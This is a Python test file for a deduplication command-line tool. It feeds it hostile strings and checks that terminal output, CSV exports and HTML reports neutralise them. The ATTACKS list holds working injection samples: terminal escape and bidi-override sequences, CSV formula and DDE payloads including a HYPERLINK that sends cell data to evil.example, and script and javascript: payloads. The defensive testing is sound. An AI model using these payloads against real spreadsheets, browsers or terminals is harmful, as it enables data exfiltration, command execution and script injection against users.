"""What strangers have written, shown in a terminal, a spreadsheet and a browser."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from dedup.cli import main

WORDS = """
English Deutsch français español português italiano polski čeština türkçe Tiếng·Việt русский
українська ελληνικά עברית العربية فارسی हिन्दी 中文 日本語 한국어
""".split()  # noqa: SIM905 -- a list of quoted words reads worse
ATTACKS = [
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\u202egpj.exe\u2066\u200f\u061c",
    "\0nul\r\x08\x7f",
    "two\nlines\u2028three",
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1)",
    "\t=1+1",
    "\u200b\ufeff=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "[bold red]markup[/] [link=http://evil.example]x[/link]",
    "{{ 7 * 7 }} {% raw %}",
    "\ud800half",
    "javascript:alert(1)",
]
ROWS = [
    {
        "id": f"{attack} {word} {copy}",
        "url": f"http://{number}.example/{attack}" if number % 2 else attack,
        "title": f"{attack} {word}",
        "text": f"{attack} {word}: " + " ".join(f"{word}{each}" for each in range(30)),
        attack: attack,
    }
    for number, (attack, word) in enumerate(zip(ATTACKS, WORDS, strict=True))
    for copy in (1, 2)
]


def steering(text: str) -> list[str]:
    """The characters of a text that a terminal obeys."""
    bidi = {"R", "AL", "L", "AN", "EN", "ES", "CS", "ET", "ON", "BN", "NSM", "WS", "S", "B"}
    return [
        each
        for each in text
        if (unicodedata.category(each) in {"Cc", "Zl", "Zp", "Cs"} and each != "\n")
        or unicodedata.bidirectional(each) not in {*bidi, ""}
        or each in "\u061c\u200e\u200f"
    ]


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "in.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in [*ROWS, ["\x1b[2J"]]))
    return path


@pytest.fixture(scope="module")
def job(source: Path) -> Path:
    folder = source.with_name("job")
    assert main(["run", str(source), "--job", str(folder)]) == 0
    return folder


def test_output_has_no_terminal_control(
    job: Path, source: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = [str(row["id"]).encode("utf-8", "replace").decode() for row in ROWS[:10:3]]
    commands = [["why", str(job), name] for name in names]
    commands += [["why", str(job), str(ROWS[3]["url"])]]
    commands += [["pair", str(job), names[0], names[1]]]
    commands += [["pair", str(job), str(ROWS[2]["id"]), str(ROWS[3]["id"])]]
    commands += [["stats", str(job)], ["stats", str(job), "--json"], ["report", str(job)]]
    commands += [["run", str(source), "--text", "\x1b[2J"], ["export", str(job), "-o", "\x1b.x"]]
    for command in commands:
        main(command)
        shown = capsys.readouterr()
        assert steering(shown.out + shown.err) == [], command


@pytest.mark.parametrize("name", ["-o", "-d"])
def test_no_cell_is_a_formula(source: Path, name: str) -> None:
    out = source.with_name(f"out{name}.csv")
    assert main(["run", str(source), name, str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == 21
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK" in "".join(cells)
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r\n" and cell] == []


def test_csv_cells_stay_unchanged(source: Path) -> None:
    table, out = source.with_name("in.csv"), source.with_name("same.csv")
    table.write_bytes(b"text,x\r\n=1+1,@SUM(1)\r\n")
    assert main(["run", str(table), "-o", str(out)]) == 0
    assert out.read_bytes() == table.read_bytes()


def test_the_report_runs_none_of_it(job: Path, source: Path) -> None:
    page = source.with_name("report.html")
    assert main(["report", str(job), "-o", str(page)]) == 0
    text = page.read_text(encoding="utf-8")
    assert "<script>alert" not in text
    assert "<img src=x" not in text
    assert 'href="javascript:' not in text


@pytest.mark.parametrize("option", ["-o", "-d"])
@pytest.mark.parametrize("output", ["-", "/dev/stdout"])
def test_closed_pipe_ends_command_quietly(source: Path, option: str, output: str) -> None:
    source.write_bytes(source.read_bytes() * 2)  # so that some rows are dropped
    command = [sys.executable, "-m", "dedup.cli", "run", str(source), option, output]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None
        process.stdout.close()
        assert process.stderr is not None
        said = process.stderr.read().decode()
    assert process.returncode == 141
    assert "Broken pipe" not in said
    assert "Traceback" not in said
